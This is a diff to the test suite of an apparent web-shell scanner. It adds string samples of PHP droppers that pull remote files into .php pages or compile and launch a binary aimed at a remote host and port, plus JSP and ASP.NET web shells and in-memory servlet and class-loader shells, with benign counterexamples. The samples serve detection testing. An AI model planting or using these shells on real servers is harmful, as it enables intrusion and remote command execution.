@@ -51,6 +51,49 @@ describe('scan: PHP techniques of session 21, samples of our own', () => {
   }
 });
 
+describe('scan: droppers and loaders of session 21, samples of our own (not run)', () => {
+  const cases: [string, string][] = [
+    ['a file fetched from a URL copied to a .php', `<?php copy('http://198.51.100.7/t.txt', 'cache-x.php');`],
+    ['a remote file saved as .php by file_put_contents', `<?php file_put_contents('wp-cache.php', file_get_contents('https://198.51.100.7/p.txt'));`],
+    ['PHP code written from hex', `<?php $h = fopen('inc.php', 'w'); fwrite($h, pack('H*', '${Buffer.from('<?php system($_GET["c"]);').toString('hex')}')); fclose($h);`],
+    ['C source compiled in /tmp and run', `<?php file_put_contents('/tmp/bc.c', base64_decode($_POST['s'])); shell_exec('gcc -o /tmp/bc /tmp/bc.c'); shell_exec('/tmp/bc 203.0.113.9 4444 &');`],
+    ['code written to a temporary file, included and deleted', `<?php class C { function go($code) { $t = tempnam(sys_get_temp_dir(), 'c'); file_put_contents($t, "<?php " . $code); include($t); unlink($t); } } if (isset($_COOKIE['k'])) (new C)->go(base64_decode($_COOKIE['k']));`],
+  ];
+  for (const [name, src] of cases) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  it('not malicious: a template engine writing compiled PHP to its cache and including it', () => {
+    const src = `<?php class Tpl { function render($name, $vars) { $file = __DIR__ . '/cache/' . md5($name) . '.php'; if (!is_file($file)) file_put_contents($file, "<?php " . $this->compile($name)); extract($vars); include $file; } function compile($n) { return 'echo htmlspecialchars($title);'; } }`;
+    assert.notEqual(scan(src).verdict, 'malicious');
+  });
+});
+
+describe('scan: JSP and ASP.NET shapes of session 21, samples of our own', () => {
+  const cases: [string, string, string][] = [
+    ['an EL expression calling methods the parameters name', '/www/el.jsp', '${pageContext[param.a][param.b](param.c)}'],
+    ['a class and a method named by the request, invoked', '/www/r.jsp', `<%@ page import="java.lang.reflect.*" %><% String k = request.getParameter("k"); Class c = Class.forName(k); Method m = c.getMethod(request.getParameter("m"), String.class); out.print(m.invoke(c.newInstance(), request.getParameter("a"))); %>`],
+    ['a servlet registered at run time through StandardContext that runs commands', '/www/m.jsp', `<%@ page import="org.apache.catalina.core.*,java.lang.reflect.*" %><% java.lang.reflect.Field f = request.getClass().getDeclaredField("request"); f.setAccessible(true); StandardContext ctx = (StandardContext) ((org.apache.catalina.connector.Request) f.get(request)).getContext(); javax.servlet.Servlet s = new javax.servlet.GenericServlet() { public void service(javax.servlet.ServletRequest q, javax.servlet.ServletResponse r) throws java.io.IOException { Runtime.getRuntime().exec(q.getParameter("c")); } }; org.apache.catalina.Wrapper w = ctx.createWrapper(); w.setName("h"); w.setServlet(s); ctx.addChild(w); ctx.addServletMappingDecoded("/h", "h"); %>`],
+    ['a class loader of raw request bytes (Behinder\'s equals(pageContext))', '/www/b.jsp', `<%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class d(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% byte[] b = new byte[request.getContentLength()]; request.getInputStream().read(b); new L(getClass().getClassLoader()).d(b).newInstance().equals(pageContext); %>`],
+    ['a web service method starting the program it is given', '/www/s.asmx', `<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class S : WebService { [WebMethod] public string Run(string f, string a) { var p = Process.Start(new ProcessStartInfo(f, a) { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); } }`],
+  ];
+  for (const [name, path, src] of cases) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  it('clean: EL reading parameters and calling a bean method by a fixed name', () => {
+    assert.notEqual(scan('<p>${fn:escapeXml(param.q)} ${cart.total()} ${param["page"]}</p>', '/www/ok.jsp').verdict, 'malicious');
+  });
+  it('clean: a web service method that runs a fixed program', () => {
+    const src = `<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class S : WebService { [WebMethod] public string Uptime() { var p = Process.Start(new ProcessStartInfo("uptime") { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); } }`;
+    assert.notEqual(scan(src, '/www/ok.asmx').verdict, 'malicious');
+  });
+});
+
 describe('scan: PHP 7 reads a bare word as its own name (an undefined constant)', () => {
   it('a called group of bare words and literals is folded to the name', () => {
     assert.equal(foldVariables(`<?php (sy.(st).'em')($_GET['c']);`), `<?php ('system')($_GET['c']);`);
